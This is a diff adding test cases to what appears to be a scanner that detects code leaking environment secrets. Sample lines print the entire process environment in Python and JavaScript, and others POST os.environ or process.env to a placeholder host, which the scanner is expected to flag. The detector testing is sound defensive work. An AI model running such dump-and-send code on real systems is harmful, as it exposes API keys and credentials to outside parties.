@@ -180,3 +180,45 @@ describe("a service's own secret", () => {
     expect(send('OPENAI_API_KEY', 'openai.sumtables.info')).toEqual(['error secret-sent']);
   });
 });
+
+describe('what a function that is not known makes with the environment', () => {
+  test.each([
+    'const env = {};\nfor (const [key, value] of Object.entries(process.env)) env[key] = value;\nconst answer = await server.check({ cwd: process.cwd(), env }, "a.py");\nprocess.stdout.write(`FAIL: ${answer.error ?? answer.text}`);',
+    'const answer = await tool.run({ env: process.env });\nconsole.log(answer.lines.join("\\n"));',
+  ])('javascript: its answer is not printed as all variables: %s', (code) => {
+    expect(node(code)).toEqual([]);
+  });
+
+  test('python', () => {
+    expect(
+      python('from lint import check\nreport = check("a.py", env=dict(os.environ))\nprint(report.text)'),
+    ).toEqual([]);
+  });
+
+  test.each([
+    'print(dict(os.environ))',
+    'print(json.dumps(dict(os.environ), indent=2))',
+    'print(repr(os.environ.copy()))',
+    'def all_of():\n    return {name: value for name, value in os.environ.items()}\nprint(all_of())',
+  ])('a copy of the variables is all of them, in python: %s', (code) => {
+    expect(python(code)).toEqual(['warning secret-shown']);
+  });
+
+  test.each([
+    'console.log(Object.fromEntries(Object.entries(process.env)));',
+    'console.log(JSON.stringify({ ...process.env }));',
+    'import util from "node:util";\nconsole.log(util.inspect(process.env));',
+  ])('and in javascript: %s', (code) => {
+    expect(node(code)).toEqual(['warning secret-shown']);
+  });
+
+  test('what goes to a host goes there, whatever packed it', () => {
+    expect(python(`requests.post("${HOST}", data=pack(dict(os.environ)))`)).toEqual(['error secret-sent']);
+    expect(python(`requests.post("${HOST}", json=dict(host="a", all=str(os.environ)))`)).toEqual([
+      'error secret-sent',
+    ]);
+    expect(node(`await fetch("${HOST}", { method: "POST", body: seal({ all: process.env }) });`)).toEqual([
+      'error secret-sent',
+    ]);
+  });
+});
